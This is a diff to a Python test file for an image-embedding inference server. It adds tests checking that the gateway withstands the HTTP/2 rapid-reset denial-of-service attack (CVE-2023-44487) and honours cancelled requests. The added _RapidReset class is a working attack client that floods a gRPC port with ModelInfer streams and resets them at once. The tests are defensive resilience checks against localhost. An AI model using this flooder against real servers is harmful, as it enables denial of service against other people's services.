@@ -15,7 +15,9 @@ import contextlib
 import io
 import os
 import re
+import select
 import signal
+import socket
 import subprocess
 import sys
 import time
@@ -762,3 +764,253 @@ def test_a_request_whose_grpc_deadline_passed_is_never_computed(survivor):
         got = client.embed(raw)
     (want,) = twin.embed_images([raw])
     assert got.token_ids == want.token_ids and rel_l2(got.features, np.asarray(want.features)) < 1e-4
+
+
+def _infer_message(raw: bytes) -> bytes:
+    """A ``ModelInfer`` call's body as on the wire: the embedder's ``ModelInferRequest`` (Triton's
+    own protobuf classes) with ``raw`` as its one BYTES ``image``, behind gRPC's 5-byte prefix."""
+    import struct
+
+    from tritonclient.grpc import service_pb2
+    from tritonclient.utils import serialize_byte_tensor
+
+    from step37_deploy.serving import contract as C
+
+    request = service_pb2.ModelInferRequest(model_name=C.EMBEDDER_MODEL)
+    request.inputs.add(name=C.EMBEDDER_INPUT, datatype="BYTES", shape=[1])
+    request.raw_input_contents.append(serialize_byte_tensor(np.array([raw], dtype=np.object_)).item())
+    payload = request.SerializeToString()
+    return struct.pack(">BI", 0, len(payload)) + payload
+
+
+class _RapidReset:
+    """The rapid-reset attack (CVE-2023-44487) through real HTTP/2 connections (the ``h2``
+    library) to the gateway's gRPC port, from ``source``: every stream is a whole ``ModelInfer``
+    call, HEADERS and DATA, reset by the client (RST_STREAM CANCEL) in the same write (so it never
+    counts against HTTP/2's concurrent-stream limit) or a moment later; the server is left to
+    notice that nobody waits.  ``goaway``: connections the server closed."""
+
+    def __init__(self, port: int, message: bytes, connections: int, source: str = "127.0.0.2") -> None:
+        import h2.config
+        import h2.connection
+
+        self.message, self.sent, self.goaway = message, 0, 0
+        self.headers = [
+            (":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
+            (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers"),
+        ]  # fmt: skip
+        self.conns = []
+        for _ in range(connections):
+            sock = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
+            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+            conn.initiate_connection()
+            sock.sendall(conn.data_to_send())
+            self.conns.append((sock, conn))
+        end = time.monotonic() + 10  # nginx opens its connection window at once: wait for it
+        for sock, conn in self.conns:
+            while conn.outbound_flow_control_window < 1 << 20 and time.monotonic() < end:
+                self._pump(sock, conn, 0.2)
+
+    def _pump(self, sock: socket.socket, conn, wait_s: float) -> bool:
+        """Reads what the server sent within ``wait_s`` (settings, window updates, the answers of
+        streams reset already, which h2 drops); False once the server closed the connection."""
+        import h2.events
+
+        end = time.monotonic() + wait_s
+        while select.select([sock], [], [], max(0.0, end - time.monotonic()))[0]:
+            try:
+                data = sock.recv(1 << 20)
+            except OSError:
+                data = b""
+            events = conn.receive_data(data) if data else []
+            if not data or any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
+                return False
+            if out := conn.data_to_send():
+                sock.sendall(out)
+        return True
+
+    def burst(self, index: int, streams: int, reset_after_s: float = 0.0) -> None:
+        """``streams`` calls in one write on connection ``index`` (a closed one is skipped), each
+        reset in that same write, or ``reset_after_s`` later (once the server may be working on
+        it; a stream the server ended meanwhile is left alone)."""
+        import h2.errors
+        import h2.exceptions
+
+        sock, conn = self.conns[index]
+        if conn is None:
+            return
+        sids = []
+        for _ in range(streams):
+            sid = conn.get_next_available_stream_id()
+            sids.append(sid)
+            conn.send_headers(sid, self.headers)
+            step = conn.max_outbound_frame_size
+            for i in range(0, len(self.message), step):
+                conn.send_data(sid, self.message[i : i + step], end_stream=i + step >= len(self.message))
+            if not reset_after_s:
+                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
+        try:
+            sock.sendall(conn.data_to_send())
+            self.sent += streams
+            alive = self._pump(sock, conn, reset_after_s)
+            if reset_after_s and alive:
+                for sid in sids:
+                    with contextlib.suppress(h2.exceptions.StreamClosedError):
+                        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
+                sock.sendall(conn.data_to_send())
+        except OSError:
+            alive = False
+        if not alive:
+            self.goaway += 1
+            sock.close()
+            self.conns[index] = (sock, None)
+
+    def close(self) -> None:
+        for sock, conn in self.conns:
+            if conn is not None:
+                with contextlib.suppress(OSError):
+                    self._pump(sock, conn, 0.5)
+            sock.close()
+
+
+def _settled_views(url: str, metrics_port: int, models: tuple[str, ...], within_s: float = 60.0) -> dict[str, int]:
+    """Each tower's ``inference_count`` once nothing is pending and none changed for 2 s (what
+    the gateway passed on before a reset may still be on its way through the queues)."""
+    end = time.monotonic() + within_s
+    last, since = {m: _views(url, m) for m in models}, time.monotonic()
+    while time.monotonic() - since < 2.0 or _pending(metrics_port) > 0:
+        assert time.monotonic() < end, f"{models} still busy {within_s} s after the attack"
+        time.sleep(0.25)
+        now = {m: _views(url, m) for m in models}
+        if now != last:
+            last, since = now, time.monotonic()
+    return last
+
+
+def test_rapid_reset_streams_are_not_computed_and_others_are_served(survivor):
+    """Issue 22 item 19, rapid reset (CVE-2023-44487): 300 ``ModelInfer`` streams, each reset by
+    its client in the same write as its request, over 3 HTTP/2 connections from another address
+    (bursts of 10, a few a second).  At most 5 % of them (15) are computed (one 728 view each, for
+    a small image); while it runs, a second client's 20 requests (gRPC and HTTP, new connections)
+    are at least 19 answered correctly; the serve tree grows by less than 1 GiB (RSS, /dev/shm,
+    temporary files) and gives back what the attack held within 5 s; the server is ready and
+    answers correctly after.  Measured: none is computed, with or without the embedder's
+    cancellation checks (a stream reset in the same write never reaches Triton's model: nginx and
+    Triton's gRPC front drop it); the next test covers a reset the embedder must catch itself."""
+    from step37_deploy.runtime import VisionEmbedder
+    from tests.conftest import ServedEmbedder
+    from tests.test_gateway_attacks import check_goals, under_attack, warm_up
+
+    ports = survivor["ports"]
+    url = f"127.0.0.1:{ports['grpc']}"
+    server = ServedEmbedder(
+        survivor["proc"], ports["http"], ports["grpc"], ports["metrics"], survivor["checkpoint"],
+        survivor["artifacts"], survivor["log"],
+    )  # fmt: skip
+    twin = VisionEmbedder.from_artifacts(survivor["checkpoint"], "onnx", list(survivor["artifacts"]), cache_mb=0)
+    image = _png(31, 400, 300)  # one 728 view, no crops
+    answer = (image, twin.embed_images([image])[0])
+    warm_up(server, *answer)  # what the first calls allocate is not the attack's (any test may run first)
+    streams, burst = 300, 10
+
+    def reset_streams(stop) -> None:  # all 300, whenever the second client is done
+        for k in range(streams // burst):
+            attack.burst(k % len(attack.conns), burst)
+            time.sleep(0.2)
+
+    tower = ("step37_vision_728",)
+    before = _settled_views(url, ports["metrics"], tower)[tower[0]]
+    # Connected right before it: nginx closes a connection that opened no stream within its header timeout.
+    attack = _RapidReset(ports["grpc"], _infer_message(_png(32, 40, 30)), connections=3)
+    try:
+        result = under_attack(server, answer, reset_streams, warmup_s=0.5)
+    finally:
+        attack.close()
+    computed = _settled_views(url, ports["metrics"], tower)[tower[0]] - before - result[0]
+    assert attack.sent == streams, (attack.sent, attack.goaway)
+    assert computed <= streams // 20, f"{computed} of {streams} reset streams were computed"
+    check_goals(result)
+    assert _ready(ports["http"])
+    raw = _png(998, 610, 470)
+    with EmbedClient(url, "grpc", timeout=60) as client:
+        got = client.embed(raw)
+    (want,) = twin.embed_images([raw])
+    assert got.token_ids == want.token_ids and rel_l2(got.features, np.asarray(want.features)) < 1e-4
+
+
+def _started(url: str) -> int:
+    """The embedder's ``execution_count``: requests an instance began (one a call: no batching),
+    cancelled or not; a request dropped from its queue never counts."""
+    import tritonclient.grpc as grpcclient
+
+    stats = grpcclient.InferenceServerClient(url).get_inference_statistics("step37_embedder", as_json=True)
+    return int(stats["model_stats"][0].get("execution_count", 0))
+
+
+def _flat_png(side: int) -> bytes:
+    """A ``side`` x ``side`` image of one colour: about 30 KB to send (one HTTP/2 window), as many
+    pixels to decode, resize and tile as a photo of that size."""
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("RGB", (side, side), (120, 130, 140)).save(buf, "PNG", optimize=True)
+    return buf.getvalue()
+
+
+def test_a_request_cancelled_while_it_is_preprocessed_never_reaches_a_tower(survivor):
+    """Issue 22 item 19, the embedder's own share: Triton drops a cancelled request that still
+    waits in the embedder's queue, but one that an instance already runs is the model's to stop.
+    A 3000x3000 image (36 crops) is sent two at a time (one per embedder instance), in waves that
+    alternate a gRPC deadline of a fifth of its preprocessing time (tritonclient) and an HTTP/2
+    stream reset by its client that long after it was sent (the rapid reset's slower cousin):
+    every one is cancelled while an instance preprocesses it, and neither tower sees any view."""
+    import threading
+
+    import tritonclient.grpc as grpcclient
+
+    from step37_deploy.preprocess import preprocess
+
+    ports = survivor["ports"]
+    url = f"127.0.0.1:{ports['grpc']}"
+    raw = _flat_png(3000)
+    t0 = time.monotonic()
+    preprocess(raw)
+    cancel_s = (time.monotonic() - t0) / 5
+    towers = ("step37_vision_728", "step37_vision_504")
+    before = _settled_views(url, ports["metrics"], towers)
+    client = grpcclient.InferenceServerClient(url)
+    message, sent = _infer_message(raw), 0
+    statuses: list[str] = []
+    started = {"deadline": 0, "reset": 0}
+    done = threading.Semaphore(0)
+
+    def ended(result, error) -> None:
+        statuses.append("ok" if error is None else str(error.status()))
+        done.release()
+
+    try:
+        for wave in range(4):
+            kind, first = ("deadline", "reset")[wave % 2], _started(url)
+            if kind == "deadline":
+                for _ in range(2):
+                    inp = grpcclient.InferInput("image", [1], "BYTES")
+                    inp.set_data_from_numpy(np.array([raw], dtype=np.object_))
+                    client.async_infer("step37_embedder", [inp], ended, client_timeout=cancel_s)
+                assert all(done.acquire(timeout=60) for _ in range(2)), "a call never ended"
+            else:  # a new connection each time (nginx closes one that opened no stream for 10 s)
+                resets = _RapidReset(ports["grpc"], message, connections=1)
+                resets.burst(0, 2, reset_after_s=cancel_s)
+                resets.close()
+                sent += resets.sent
+            end = time.monotonic() + 10  # both instances took theirs before the next wave
+            while _started(url) - first < 2 and time.monotonic() < end:
+                time.sleep(0.1)
+            started[kind] += _started(url) - first
+            time.sleep(20 * cancel_s)  # and are done with them (4x the preprocessing)
+    finally:
+        client.close()
+    assert statuses == ["StatusCode.DEADLINE_EXCEEDED"] * 4 and sent == 4, (statuses, sent)
+    # A request cancelled before an instance took it checks nothing here: both kinds must have run.
+    assert started["deadline"] >= 1 and started["reset"] >= 1, started
+    after = _settled_views(url, ports["metrics"], towers)
+    assert after == before, f"{started} cancelled while preprocessed; the towers computed views: {before} -> {after}"
